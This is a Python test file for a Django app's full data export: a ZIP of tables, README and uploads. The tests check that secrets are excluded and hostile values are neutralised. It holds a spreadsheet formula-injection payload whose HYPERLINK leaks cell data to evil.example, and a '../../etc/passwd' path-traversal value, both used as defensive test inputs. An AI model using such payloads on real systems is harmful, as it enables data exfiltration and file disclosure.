"""The full export: every table of the program's data as CSV and JSON, the uploaded files and a README of
the columns in one ZIP (dataio.services.export_all), its download and its command."""

import csv
import io
import json
import zipfile

import pytest
from django.apps import apps
from django.contrib.sessions.backends.db import SessionStore
from django.core.files.base import ContentFile
from django.core.management import CommandError, call_command
from django.urls import reverse
from django.utils import timezone

from activities.factories import ActivityFactory
from activities.models import ActivityPhoto
from classroom.factories import StudentFactory
from classroom.models import AccessLog
from dataio.services.export_all import LEFT_OUT, LEFT_OUT_COLUMNS, column_name, export_all, tables
from volunteers.factories import VolunteerFactory

PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000100e221bc330000000049454e44ae426082"
)
HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"見る")'


@pytest.fixture
def program(site):
    """The demo classroom (rows in nearly every table), a child with a formula for a name, a photo, a session."""
    call_command("seed_demo", students=8, seed=7, stdout=io.StringIO())
    StudentFactory(site=site, family_name=HOSTILE, given_name="花子")
    photo = ActivityPhoto(activity=ActivityFactory(site=site), caption="収穫")
    photo.image.save("harvest.png", ContentFile(PNG), save=True)
    session = SessionStore()
    session["secret"] = "x"
    session.create()
    return {"photo": photo, "session_key": session.session_key}


def download(client, user) -> zipfile.ZipFile:
    client.force_login(user)
    response = client.post(reverse("dataio:export_download"))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    assert response["Cache-Control"] == "no-store"
    assert response["Content-Disposition"].startswith('attachment; filename="yorisoi-export-')
    return zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))


def csv_rows(archive, label) -> list[list[str]]:
    text = archive.read(f"tables/{label}.csv").decode("utf-8")
    assert text.startswith("\ufeff")  # Excel in Japan opens it without mojibake
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def test_every_table_is_in_the_archive_with_the_databases_rows(client, staff_admin, program):
    archive = download(client, staff_admin)
    names = set(archive.namelist())
    assert "README.md" in names
    for table in tables():
        rows = json.loads(archive.read(f"tables/{table.label}.json"))
        expected = table.model._default_manager.count()
        if table.label == "classroom.accesslog":
            expected -= 1  # the download's own entry, written once the archive was made
        assert len(rows) == expected, table.label
        csv_table = csv_rows(archive, table.label)
        assert csv_table[0] == [column_name(f) for f in table.columns]
        assert len(csv_table) - 1 == expected, table.label
    # The demo filled the tables people work in: the counts above were not all zero.
    assert sum(len(json.loads(archive.read(f"tables/{t}.json"))) for t in
               ("classroom.attendance", "classroom.tutoringrecord", "casework.homevisit", "activities.participant")) > 50


def test_every_model_is_exported_or_left_out_on_purpose(client, staff_admin, program):
    """A new model of any installed app lands in the archive (ours) or must be named in LEFT_OUT with a reason."""
    archive = download(client, staff_admin)
    in_archive = {name.removeprefix("tables/").removesuffix(".json") for name in archive.namelist()
                  if name.startswith("tables/") and name.endswith(".json")}
    models = {m._meta.label_lower for m in apps.get_models(include_auto_created=True)}
    neither = models - in_archive - set(LEFT_OUT)
    assert not neither, f"neither exported nor in dataio.services.export_all.LEFT_OUT: {sorted(neither)}"
    assert not (in_archive & set(LEFT_OUT))
    assert set(LEFT_OUT) <= models, "LEFT_OUT names a model that no longer exists"
    for app in ("classroom", "casework", "volunteers", "activities"):
        assert any(label.startswith(f"{app}.") for label in in_archive)
    for label, columns in LEFT_OUT_COLUMNS.items():
        fields = {f.name for f in apps.get_model(label)._meta.concrete_fields}
        assert set(columns) <= fields, f"LEFT_OUT_COLUMNS names a column {label} no longer has"


def test_the_readme_describes_every_table_and_column(client, staff_admin, program):
    archive = download(client, staff_admin)
    readme = archive.read("README.md").decode()
    for table in tables():
        heading = f"### `{table.label}`:"
        assert heading in readme, table.label
        section = readme.split(heading, 1)[1].split("\n### ", 1)[0]
        for f in table.columns:
            assert f"| `{column_name(f)}` |" in section, (table.label, f.name)
    for label in LEFT_OUT:
        assert f"- `{label}`: " in readme
    assert "~~`password`~~" in readme and "~~`calendar_token`~~" in readme
    # Japanese and English names, types, choices with their labels, foreign keys.
    student = readme.split("### `classroom.student`:", 1)[1].split("\n### ", 1)[0]
    assert "| `family_name` | 姓 | family name |" in student
    assert "ForeignKey → classroom.site.id" in student
    assert "`active` = 在籍 / Active" in student


def test_secrets_are_never_exported(client, staff_admin, program):
    volunteer = VolunteerFactory()
    volunteer.renew_calendar_token()
    archive = download(client, staff_admin)
    everything = b"".join(archive.read(name) for name in archive.namelist() if not name.startswith("files/"))
    assert staff_admin.password.encode() not in everything
    assert volunteer.calendar_token.encode() not in everything
    assert program["session_key"].encode() not in everything
    users = json.loads(archive.read("tables/auth.user.json"))
    assert users and "password" not in users[0]
    assert "calendar_token" not in json.loads(archive.read("tables/volunteers.volunteer.json"))[0]


def test_uploaded_files_are_included(client, staff_admin, program):
    archive = download(client, staff_admin)
    photo = program["photo"]
    assert archive.read(f"files/{photo.image.name}") == PNG
    rows = json.loads(archive.read("tables/activities.activityphoto.json"))
    assert photo.image.name in {r["image"] for r in rows}


def test_a_file_missing_from_storage_is_listed_not_fatal(client, staff_admin, program):
    photo = program["photo"]
    photo.image.storage.delete(photo.image.name)
    ActivityPhoto.objects.filter(pk=photo.pk).update(thumbnail="../../etc/passwd")
    archive = download(client, staff_admin)
    readme = archive.read("README.md").decode()
    assert f"- `{photo.image.name}`" in readme and "- `../../etc/passwd`" in readme
    assert not any(".." in name for name in archive.namelist())


def test_values_are_written_for_machines_and_spreadsheets(client, staff_admin, program):
    archive = download(client, staff_admin)
    students = json.loads(archive.read("tables/classroom.student.json"))
    hostile = next(s for s in students if s["given_name"] == "花子")
    assert hostile["family_name"] == HOSTILE  # JSON keeps the exact text
    assert hostile["created_at"].endswith("+09:00")  # Japan time with its offset
    assert hostile["legal_hold"] is False
    header, *rows = csv_rows(archive, "classroom.student")
    row = next(r for r in rows if r[header.index("given_name")] == "花子")
    assert row[header.index("family_name")] == "'" + HOSTILE  # a spreadsheet shows it as text, never runs it
    assert row[header.index("created_at")] == hostile["created_at"]
    assert row[header.index("legal_hold")] == "false"


def test_the_download_is_access_logged(client, staff_admin, program):
    download(client, staff_admin)
    entry = AccessLog.objects.get(action="export")
    assert entry.user == staff_admin and entry.student is None and entry.path == reverse("dataio:export_download")


def test_the_command_writes_the_archive(tmp_path, program):
    path = tmp_path / "export.zip"
    out = io.StringIO()
    call_command("export_all", str(path), stdout=out)
    assert "tables" in out.getvalue()
    with zipfile.ZipFile(path) as archive:
        assert "README.md" in archive.namelist()
        assert len(json.loads(archive.read("tables/classroom.student.json"))) == 9
    with pytest.raises(CommandError, match="exists"):
        call_command("export_all", str(path))
    call_command("export_all", str(path), "--force", stdout=io.StringIO())
    assert not (tmp_path / "export.zip.part").exists()


def test_memory_stays_bounded_tables_are_read_in_chunks(staff_admin, program, django_assert_max_num_queries):
    """Each table is one query (chunked reads), not one per row: the export's cost grows with the tables."""
    out = io.BytesIO()
    with django_assert_max_num_queries(len(tables()) + 5):
        summary = export_all(out=out)
    assert summary.total_rows > 100 and summary.created_at <= timezone.now()


@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_outside_a_transaction_the_export_reads_one_snapshot(site):
    """On PostgreSQL the export opens its own read-only repeatable-read transaction (nothing on SQLite)."""
    from django.db import connection

    StudentFactory(site=site)
    assert not connection.in_atomic_block
    summary = export_all(out=io.BytesIO())
    assert summary.rows["classroom.student"] == 1
    assert not connection.in_atomic_block  # closed again
